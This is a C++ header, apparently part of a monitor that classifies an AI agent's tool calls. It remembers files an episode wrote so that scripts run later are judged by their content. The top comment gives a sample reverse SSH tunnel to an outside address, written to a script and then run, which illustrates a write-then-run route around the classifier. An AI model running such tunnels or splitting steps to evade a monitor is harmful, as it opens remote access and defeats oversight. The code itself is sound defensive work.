// rewardguard/classify/file_memory.h
//
// What the files an episode wrote hold, as far as classification can tell,
// so that a script written by one call and run by a later one is judged by
// its content rather than its name:
//
//   write_file {"path": "x.sh", "content": "ssh -fNR 9000:localhost:22 a@203.0.113.5"}
//   shell      {"command": "bash x.sh"}        // net.tunnel, as if typed
//
// The evaluator keeps one FileMemory per env, applies the writes of a call
// only once the call has run (like budgets), and clears it at reset.
// Classification reads it and reports a call's writes as FileWrites:
//
//   FileWrites writes;
//   ClassifyCall(spec, call, limits, &facts, &memory, &writes);
//   if (ran) memory.Apply(writes, limits.max_remembered_bytes);
//
// What is remembered: the text written by a write tool whose spec maps
// `content`, by `echo`/`printf` of literal words or a `cat <<EOF` heredoc
// redirected into a file; that a file was downloaded (`curl -o`, `wget -O`,
// a redirect of a download) or generated (any other redirected output). A
// remembered file changed by something the analysis cannot follow (an edit
// tool, `sed -i`, `cp` or `touch` onto it) becomes generated; deleting it
// forgets it; `cp`/`mv`/`ln`/`install` of it carry its content along.
// Running a downloaded file is `process.remote_code`, a generated one
// `shell.unanalyzable`. Paths are matched as written, after NormalizePath:
// the working directory is not tracked.
#ifndef REWARDGUARD_CLASSIFY_FILE_MEMORY_H_
#define REWARDGUARD_CLASSIFY_FILE_MEMORY_H_

#include <cstdint>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

#include "absl/container/flat_hash_map.h"
#include "absl/types/span.h"

namespace rewardguard {

class FileMemory {
 public:
  enum class Origin : uint8_t {
    kText,        // `text` is the content
    kDownloaded,  // fetched from the network
    kGenerated,   // produced or changed by what the analysis cannot follow
  };
  struct File {
    Origin origin = Origin::kText;
    std::string text;  // kText only
  };
  // One write a call makes: `file` replaces what `path` held; nullopt: the
  // file was deleted.
  struct Write {
    std::string path;  // normalized
    std::optional<File> file;
  };

  // The remembered file at normalized `path`, or nullptr.
  const File* Find(std::string_view path) const;
  // A remembered file whose path ends with "/" + `relative_path`, for a run
  // after `cd` to a directory the analysis cannot name; downloaded or
  // generated ones first (fail closed). nullptr if none.
  const File* FindBelowSomeDirectory(std::string_view relative_path) const;
  // True once a write did not fit in the byte budget at all (not even as a
  // generated file): a run of a file not found is then unanalyzable.
  bool overflowed() const { return overflowed_; }
  bool empty() const { return files_.empty() && !overflowed_; }

  // Applies `writes` in order, moving their texts in. Paths and texts count
  // against `max_bytes`; a text that does not fit is remembered as generated
  // (fail closed).
  void Apply(absl::Span<Write> writes, int64_t max_bytes);
  void Clear();

 private:
  absl::flat_hash_map<std::string, File> files_;
  int64_t bytes_ = 0;
  bool overflowed_ = false;
};

using FileWrites = std::vector<FileMemory::Write>;

// Whether `path` is `relative_path` below some directory ("a/b/x.sh" for
// "x.sh" or "b/x.sh").
inline bool IsBelowSomeDirectory(std::string_view path, std::string_view relative_path) {
  return path.size() > relative_path.size() && path.ends_with(relative_path) &&
         path[path.size() - relative_path.size() - 1] == '/';
}

}  // namespace rewardguard

#endif  // REWARDGUARD_CLASSIFY_FILE_MEMORY_H_
